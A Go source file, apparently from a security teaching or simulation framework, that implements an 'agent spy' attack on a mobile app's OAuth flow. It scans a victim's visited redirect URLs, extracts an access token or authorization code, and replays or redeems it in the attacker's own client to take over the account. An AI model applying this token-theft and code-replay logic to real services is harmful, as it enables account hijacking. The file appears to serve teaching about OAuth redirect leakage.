package attacker

import (
	"context"
	"errors"
	"net/url"
	"strings"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/loot"
	"keyladder/stages/protect"
)

// agentSpy sees the addresses that the victim's user agent goes through: an extension, a history
// that is kept in step with a cloud, somebody who looks over a shoulder. It uses the
// code or token of the last one, which leads back to the app, in a program of its own.
//
//keyladder:code attack-agent-spy
func agentSpy(ctx context.Context, g *attack.Given) (attack.Result, error) {
	addresses, err := g.Spied.SignsIn(ctx)
	if err != nil {
		return attack.Result{}, err
	}
	last := ""
	for _, address := range addresses {
		before, _, _ := strings.Cut(address, "?")
		before, _, _ = strings.Cut(before, "#")
		g.Say("Seen: %s …", before)
		if before == g.RedirectURI {
			last = address
		}
	}
	if last == "" {
		return attack.Result{}, errors.New("no address leads back to the app")
	}
	g.Say("The last one leads back to the app.")
	return useResponse(ctx, g, last)
}

// useResponse uses what an authorization response has in it, an access token or a code, with a
// program of the attacker's own.
func useResponse(ctx context.Context, g *attack.Given, link string) (attack.Result, error) {
	var seen loot.Loot
	seen.Search([]byte(link))
	if len(seen.Tokens) > 0 {
		g.Say("There is an access token in its fragment.")
		return attack.RobAs(ctx, g, []protect.Identity{{ClientID: g.ClientID, Token: seen.Tokens[0]}})
	}
	code := codeIn(link)
	if code == "" {
		return attack.Result{}, errors.New("the address has neither a token nor a code in it")
	}
	g.Say("There is an authorization code in it. Try to exchange it.")
	p, err := attack.NewProgram(g, protect.Identity{ClientID: g.ClientID})
	if err != nil {
		return attack.Result{}, err
	}
	defer p.Close()
	err = p.Redeem(ctx, protect.Response{Code: code})
	if err == nil {
		err = p.Rob(ctx)
	}
	if err != nil {
		result, err := attack.Stopped(err)
		result.Stolen = []string{code}
		return result, err
	}
	return attack.Result{Claim: true, Stolen: []string{code}}, g.SpendLoot(ctx, p.Use)
}

// codeIn is the authorization code in a redirect; empty: there is none.
func codeIn(link string) string {
	u, err := url.Parse(link)
	if err != nil {
		return ""
	}
	return u.Query().Get("code")
}
